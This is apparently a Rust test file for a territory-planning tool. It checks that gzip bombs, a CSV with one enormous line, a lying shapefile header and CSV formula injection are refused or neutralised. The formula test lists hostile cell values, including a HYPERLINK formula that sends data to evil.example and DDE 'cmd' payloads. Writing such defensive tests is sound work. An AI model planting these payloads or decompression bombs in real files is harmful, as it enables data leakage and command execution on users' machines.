//! Files from someone else: gzip bombs and planted strings in project files and GeoJSON,
//! a CSV of one enormous line, a shapefile whose header lies, and CRM text that would be
//! a live formula in a spreadsheet. Each is refused quickly with a message naming the
//! file and the limit, or (formulas) written harmless and read back unchanged.

mod shared_data;

use shared_data::shared as data;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};
use territory_designer::io::project_file;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_territory-designer"))
}

/// Runs the binary; fails the test if it takes longer than `limit`.
fn run_within(args: &[&std::ffi::OsStr], limit: Duration) -> Output {
    let started = Instant::now();
    let output = bin().args(args).output().unwrap();
    assert!(started.elapsed() < limit, "took {:?}", started.elapsed());
    output
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A gzip stream of `members` copies of one member holding `chunk`: megabytes on disk
/// that expand to gigabytes, built in milliseconds.
fn bomb(prefix: &[u8], chunk: &[u8], members: usize) -> Vec<u8> {
    let gz = |bytes: &[u8]| {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(bytes).unwrap();
        e.finish().unwrap()
    };
    let member = gz(chunk);
    let mut out = gz(prefix);
    for _ in 0..members {
        out.extend_from_slice(&member);
    }
    out
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

#[test]
fn a_project_file_that_expands_to_gigabytes_of_one_byte_is_refused_from_its_first_bytes() {
    let dir = tempfile::tempdir().unwrap();
    // 3 GB of one byte.
    let path = write(dir.path(), "bomb.tdproj", &bomb(b"", &vec![b'A'; 1 << 20], 3 << 10));
    assert!(std::fs::metadata(&path).unwrap().len() < 16 << 20);
    let output = run_within(&["report".as_ref(), path.as_os_str()], Duration::from_secs(5));
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(message.contains("bomb.tdproj is not a Territory Designer project"), "{message}");
}

#[test]
fn a_valid_header_with_a_planted_string_is_refused_at_the_value_limit() {
    let dir = tempfile::tempdir().unwrap();
    let header = br#"{"format":"territory-designer-project","schema_version":2,"saved_by":""#;
    let path = write(dir.path(), "planted.tdproj", &bomb(header, &vec![b'x'; 1 << 20], 3 << 10));
    let output = run_within(&["report".as_ref(), path.as_os_str()], Duration::from_secs(10));
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(message.contains("planted.tdproj") && message.contains("longer than 16 MB"), "{message}");
}

#[test]
fn a_geojson_bomb_is_refused_naming_the_file_and_limit() {
    let dir = tempfile::tempdir().unwrap();
    let header = br#"{"type":"FeatureCollection","name":""#;
    let units = write(dir.path(), "zips.geojson.gz", &bomb(header, &vec![b'z'; 1 << 20], 3 << 10));
    let out = dir.path().join("p.tdproj");
    let output = run_within(&["new".as_ref(), "--units".as_ref(), units.as_os_str(), "--out".as_ref(), out.as_os_str()], Duration::from_secs(10));
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(message.contains("zips.geojson.gz") && message.contains("longer than 16 MB"), "{message}");
    assert!(!out.exists());
}

#[test]
fn a_csv_of_one_enormous_line_is_refused_naming_the_line_and_limit() {
    let Some(zips) = data("zcta/DE_zctas.geojson.gz") else { return };
    let dir = tempfile::tempdir().unwrap();
    let accounts = dir.path().join("accounts.csv");
    let mut file = std::fs::File::create(&accounts).unwrap();
    file.write_all(b"name,lat,lon\n").unwrap();
    for _ in 0..64 {
        file.write_all(&vec![b'y'; 1 << 20]).unwrap();
    }
    drop(file);
    let out = dir.path().join("p.tdproj");
    let output = run_within(&["new".as_ref(), "--units".as_ref(), zips.as_os_str(), "--accounts".as_ref(), accounts.as_os_str(), "--out".as_ref(), out.as_os_str()], Duration::from_secs(10));
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(message.contains("accounts.csv") && message.contains("line 2 is longer than 1 MB"), "{message}");
}

#[test]
fn a_shapefile_whose_record_header_lies_is_refused() {
    let Some(shp) = data("shapefiles/nj_zcta/nj_zcta.shp") else { return };
    let dir = tempfile::tempdir().unwrap();
    let mut bytes = std::fs::read(&shp).unwrap();
    // The first record claims 4 GB of content.
    bytes[104..108].copy_from_slice(&0x7fff_ffffi32.to_be_bytes());
    let lying = write(dir.path(), "nj.shp", &bytes);
    for ext in ["dbf", "shx", "prj"] {
        std::fs::copy(shp.with_extension(ext), lying.with_extension(ext)).unwrap();
    }
    let out = dir.path().join("p.tdproj");
    let output = run_within(&["new".as_ref(), "--units".as_ref(), lying.as_os_str(), "--out".as_ref(), out.as_os_str()], Duration::from_secs(10));
    assert!(!output.status.success());
    assert!(stderr(&output).contains("nj.shp: shape 1 cannot be read"), "{}", stderr(&output));
}

#[test]
fn crm_text_that_would_be_a_formula_is_exported_harmless_and_imported_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    let mut project = project_file::load(Path::new("sample_maps/mid_atlantic.tdproj")).unwrap();
    let hostile = ["=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd|calc"];
    for (i, name) in hostile.iter().enumerate() {
        project.accounts[i].name = name.to_string();
    }
    let baseline = project.baseline;
    let scenario = project.scenarios.iter_mut().find(|s| s.id == baseline).unwrap();
    scenario.territories[0].name = "=1+1".into();
    let path = dir.path().join("hostile.tdproj");
    project_file::save(&project, &path).unwrap();

    let accounts = dir.path().join("accounts.csv");
    let assignment = dir.path().join("assignment.csv");
    let output = bin().arg("export").arg(&path).arg("--accounts").arg(&accounts).arg("--assignment").arg(&assignment).output().unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let ledger = dir.path().join("ledger.csv");
    let output = bin().args(["compare"]).arg(&path).args(["--to", "2027 proposal", "--ledger"]).arg(&ledger).output().unwrap();
    assert!(output.status.success(), "{}", stderr(&output));

    // No cell of any export starts a formula; numbers are still numbers.
    for file in [&accounts, &assignment, &ledger] {
        let mut reader = csv::Reader::from_path(file).unwrap();
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let live = cell.starts_with(['=', '+', '@', '\t', '\r']) || (cell.starts_with('-') && cell.parse::<f64>().is_err());
                assert!(!live, "{}: live formula {cell:?}", file.display());
            }
        }
    }
    let text = std::fs::read_to_string(&accounts).unwrap();
    assert!(text.contains("'=HYPERLINK") && text.contains("'+cmd"), "{text}");

    // Export then import is the identity: the alignment and the accounts read back.
    let table = territory_designer::io::import::columns::read_csv(&accounts).unwrap();
    let names: Vec<&str> = table.rows.iter().take(4).map(|(_, cells)| cells[1].as_str()).collect();
    assert_eq!(names, hostile);
    let import = territory_designer::io::import::new_project::read_alignment(&project, &assignment, "Round trip", false).unwrap();
    assert!(import.scenario.territories.iter().any(|t| t.name == "=1+1"), "{:?}", import.scenario.territories.iter().map(|t| &t.name).collect::<Vec<_>>());
}
